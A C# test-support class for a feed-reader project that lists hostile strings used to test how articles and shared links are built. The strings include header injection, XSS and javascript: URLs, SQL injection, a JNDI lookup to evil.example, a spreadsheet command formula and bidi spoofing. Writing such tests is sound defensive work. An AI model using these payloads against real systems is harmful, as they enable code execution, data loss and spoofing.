using System.Text.Json;
using Wellread.Articles;
using Wellread.Feeds;
using Wellread.Tests.Support;

namespace Wellread.Tests.Sharing;

/// <summary>Strings that were made to break out of where they stand, and articles of them by the way that a feed's item takes.</summary>
internal static class HostileTexts
{
    private const string Family = "\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466";

    public static readonly IReadOnlyList<string> Own =
    [
        "Flu\r\nBcc: all@example.org", "Flu\nX-Header: 1\n\nbody", "Flu\u2028line\u2029paragraph\u0085next", "Flu\0nul\u0001\u001b[31m",
        "javascript:alert(1)", "java\tscript:alert(1)", "<a href=\"javascript:alert(1)\">Flu</a>", "data:text/html,<script>alert(1)</script>",
        "Flu &text=other&url=https://evil.example/#fragment", "Flu%0D%0ABcc:%20all@example.org", "?u=https://evil.example&quote=a;b", "Flu &amp;text=b &#38;url=c &num;d",
        "Flu \u202Emoc.live//:sptth\u202C", "\u2066Flu\u2069 \u2067shot\u2069 \u200F\u200E\u061C", "a\uD800b", "\uDC00a\uD83D", "\uFEFFFlu\uFFFE\uFFFF\uFDD0",
        $"Flu {string.Concat(Enumerable.Repeat("e" + new string('\u0301', 40), 20))}", new string('\u0489', 400), $"Zal{string.Concat(Enumerable.Repeat("\u0336\u0488\u20DD", 90))}go",
        string.Concat(Enumerable.Repeat(Family, 24)), $"\U0001F468{string.Concat(Enumerable.Repeat("\u200D\U0001F468", 90))}", new string('\u200D', 300),
        $"\U0001F3F4{string.Concat(Enumerable.Repeat("\U000E0067", 70))}", string.Concat(Enumerable.Repeat("\U0001F1EA", 81)), "\U0001F1EA\U0001F1F8\U0001F3F4\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F",
        "نصائح للنوم الجيد في رمضان \u202D&\u202C <b>", "טיפים לשינה טובה #שינה", "BEGIN:VEVENT\r\nUID:1\r\nEND:VEVENT", "a;b,c\\nd\\;\"e\":f", "]]><script>alert(1)</script><![CDATA[", "<!DOCTYPE a [<!ENTITY b \"c\">]>&b;",
        "&lt;img src=x onerror=alert(1)&gt; &#x202E; &#0; &#xD800; &ZeroWidthSpace;", "{0} {{1}} %s %n ${jndi:ldap://evil.example/a}", "'; DROP TABLE articles; --", "=cmd|' /C calc'!A0",
        "#" + new string('a', 280), "@everyone https://evil.example/?a=\u202Egpj.exe", $"https://{new string('a', 64)}.example.com/ {string.Concat(Enumerable.Repeat("a.co ", 60))}", new string('W', 5_000),
    ];

    /// <summary>The strings of a file of the shared data.</summary>
    public static IEnumerable<string> In(string file)
    {
        foreach (var line in File.ReadLines(SharedData.Path($"hostile/{file}")))
        {
            using var document = JsonDocument.Parse(line.Replace("\\ud800", "\\\\ud800", StringComparison.OrdinalIgnoreCase));
            var property = document.RootElement.EnumerateObject().First(one => one.Name is "payload" or "string" or "url");
            yield return property.Value.GetString()!.Replace("\\ud800", "\ud800", StringComparison.OrdinalIgnoreCase);
        }
    }

    /// <summary>An article with the string in all its places; null where a feed's item of it makes none.</summary>
    public static Article? Article(string text, string name = "a")
    {
        var entry = new FeedEntry { Link = $"https://news.example/{name}", Title = text, Summary = $"{text}. Wash your hands often. {text}", Author = text, Categories = [text] };
        var feed = new ParsedFeed { Format = FeedFormat.Rss20, Title = text, Entries = [entry] };
        var source = new FeedSource { Id = "feed_a", Url = new Uri("https://news.example/"), Title = text, Rules = FeedRules.None };
        return (ArticleFactory.From(entry, feed, source, Make.Morning) as ArticleOutcome.Made)?.Article;
    }
}
